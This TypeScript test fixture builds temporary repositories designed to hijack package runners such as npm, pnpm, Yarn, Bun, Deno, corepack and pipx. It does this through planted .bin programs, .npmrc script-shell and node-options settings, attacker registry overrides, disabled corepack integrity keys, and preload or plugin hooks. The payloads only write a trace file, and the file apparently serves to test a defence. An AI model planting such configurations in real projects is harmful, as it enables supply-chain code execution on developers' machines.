import { chmodSync, existsSync, mkdirSync, realpathSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { temporaryDirectory } from './launch.js';

/** A directory of someone else, with files that leave a trace if they are run. */
export class Clone {
  readonly root = realpathSync(temporaryDirectory());
  readonly trace = join(realpathSync(temporaryDirectory()), 'hijacked');

  write(file: string, content: string): this {
    mkdirSync(dirname(join(this.root, file)), { recursive: true });
    writeFileSync(join(this.root, file), content);
    return this;
  }

  json(file: string, content: object): this {
    return this.write(file, JSON.stringify(content));
  }

  /** A program that leaves the trace, and fails. */
  program(...files: readonly string[]): this {
    for (const file of files) {
      this.write(file, `#!/bin/sh\n: > '${this.trace}'\nexit 1\n`);
      chmodSync(join(this.root, file), 0o755);
    }
    return this;
  }

  /** A module of Node.js that leaves the trace. */
  module(file: string): this {
    return this.write(file, `require('node:fs').writeFileSync(${JSON.stringify(this.trace)}, '');\n`);
  }

  /** A module of Python that leaves the trace. */
  python(file: string): this {
    return this.write(file, `open(${JSON.stringify(this.trace)}, 'w')\n`);
  }

  link(file: string, to: string): this {
    mkdirSync(dirname(join(this.root, file)), { recursive: true });
    symlinkSync(to, join(this.root, file));
    return this;
  }

  get isHijacked(): boolean {
    return existsSync(this.trace);
  }
}

const named = { name: '@x/server', version: '1.0.0', bin: { evil: 'e' } };
const bin = 'node_modules/.bin';

/**
 * Clones by which package runners could be made to run something else than the published package `@x/server`, whose program is
 * `server`; npm 11 is, by each of the first ones. `evil` is the address of a registry with another package of that name.
 */
export function hostileClones(evil: string): Record<string, Clone> {
  const listed = new Clone()
    .json('package.json', {})
    .program(`${bin}/evil`)
    .json('node_modules/innocent/package.json', { name: 'innocent', version: '1.0.0' })
    .json('node_modules/.package-lock.json', { lockfileVersion: 3, packages: { 'node_modules/innocent': named } });
  const later = new Date(Date.now() + 10_000);
  utimesSync(join(listed.root, 'node_modules/.package-lock.json'), later, later);
  return {
    'a program of the name': new Clone().program(`${bin}/server`, `${bin}/@x/server`),
    'a package of the name': new Clone().json('node_modules/@x/server/package.json', named).program(`${bin}/evil`),
    'a package of the name in a folder of another': new Clone()
      .json('node_modules/innocent/package.json', named)
      .program(`${bin}/evil`),
    'a linked package of the name': new Clone()
      .json('package.json', {})
      .json('lib/z/package.json', named)
      .program(`${bin}/evil`)
      .link('node_modules/innocent', '../lib/z'),
    'a project of the name': new Clone().json('package.json', named).program(`${bin}/evil`, 'e'),
    'a workspace of the name': new Clone()
      .json('package.json', { workspaces: ['w'] })
      .json('w/package.json', named)
      .program(`${bin}/evil`, 'w/e'),
    'a list of what is installed': listed,
    'programs that every package needs': new Clone()
      .json('package.json', {})
      .program(...['node', 'sh', 'env', 'git', 'python', 'python3', 'bash'].map((name) => `${bin}/${name}`)),
    'a registry for its scope': new Clone().json('package.json', {}).write('.npmrc', `@x:registry=${evil}\n`),
    'a registry for the scope of a dependency': new Clone()
      .json('package.json', {})
      .write('.npmrc', `@dependency:registry=${evil}\n`),
    'a shell': new Clone().json('package.json', {}).program('e').write('.npmrc', 'script-shell=./e\n'),
    'options for Node.js': new Clone()
      .json('package.json', {})
      .module('e.cjs')
      .write('.npmrc', 'node-options=--require ./e.cjs\n'),
    'a package manager behind corepack': new Clone()
      .json('package.json', { packageManager: 'pnpm@9.9.9+sha1.0000000000000000000000000000000000000000' })
      .write('.corepack.env', `COREPACK_NPM_REGISTRY=${evil}\nCOREPACK_INTEGRITY_KEYS=0\n`),
    'a program of Yarn': new Clone()
      .json('package.json', {})
      .module('e.cjs')
      .write('yarn.lock', '')
      .write('.yarnrc.yml', 'yarnPath: ./e.cjs\n')
      .write('.yarnrc', 'yarn-path "./e.cjs"\n'),
    'a plugin of Yarn': new Clone()
      .json('package.json', {})
      .module('e.cjs')
      .write('yarn.lock', '')
      .write('.yarnrc.yml', `npmRegistryServer: ${evil}\nplugins:\n  - ./e.cjs\n`),
    'hooks of pnpm': new Clone()
      .json('package.json', {})
      .module('.pnpmfile.cjs')
      .module('.pnpmfile.mjs')
      .write('pnpm-workspace.yaml', `packages: ['*']\nregistries:\n  '@x': ${evil}\npnpmfile: .pnpmfile.cjs\n`),
    'settings of Bun': new Clone()
      .json('package.json', {})
      .module('e.cjs')
      .write(
        'bunfig.toml',
        `preload = ["./e.cjs"]\n[install]\nregistry = "${evil}"\n[install.scopes]\n"@x" = "${evil}"\n`,
      ),
    'settings of Deno': new Clone()
      .json('deno.json', { imports: { '@x/server': './e.cjs', 'npm:@x/server': './e.cjs' }, preload: ['./e.cjs'] })
      .module('e.cjs'),
    'a script of the name for pipx': new Clone().python('server').python('__pypackages__/3.11/lib/bin/server'),
  };
}

/** What many repositories have, and what replaces nothing. */
export function harmlessClone(): Clone {
  return new Clone()
    .json('package.json', { name: 'mine', version: '1.0.0', workspaces: ['packages/*'], bin: { mine: 'x' } })
    .json('packages/one/package.json', { name: 'one', version: '1.0.0' })
    .program(`${bin}/tsc`, `${bin}/npm`)
    .write('.npmrc', 'save-exact=true\nengine-strict=true\n//example.org/:_authToken=x\nfoo=bar\n');
}

/** All of these traps in one clone. */
export function worstClone(evil: string): Clone {
  return new Clone()
    .json('package.json', {
      ...named,
      workspaces: ['w'],
      packageManager: 'pnpm@9.9.9+sha1.0000000000000000000000000000000000000000',
    })
    .json('w/package.json', named)
    .json('node_modules/@x/server/package.json', named)
    .program('e', 'w/e', ...['server', 'evil', 'node', 'sh', 'env', 'git', 'python'].map((name) => `${bin}/${name}`))
    .module('e.cjs')
    .write('.npmrc', `registry=${evil}\n@x:registry=${evil}\nscript-shell=./e\nnode-options=--require ./e.cjs\n`)
    .write('.corepack.env', `COREPACK_NPM_REGISTRY=${evil}\nCOREPACK_INTEGRITY_KEYS=0\n`)
    .write('yarn.lock', '')
    .write('.yarnrc.yml', `npmRegistryServer: ${evil}\nyarnPath: ./e.cjs\nplugins:\n  - ./e.cjs\n`)
    .module('.pnpmfile.cjs')
    .write('pnpm-workspace.yaml', `packages: ['*']\nregistries:\n  '@x': ${evil}\n`)
    .write(
      'bunfig.toml',
      `preload = ["./e.cjs"]\n[install]\nregistry = "${evil}"\n[install.scopes]\n"@x" = "${evil}"\n`,
    )
    .json('deno.json', { imports: { '@x/server': './e.cjs', 'npm:@x/server': './e.cjs' } })
    .python('server');
}
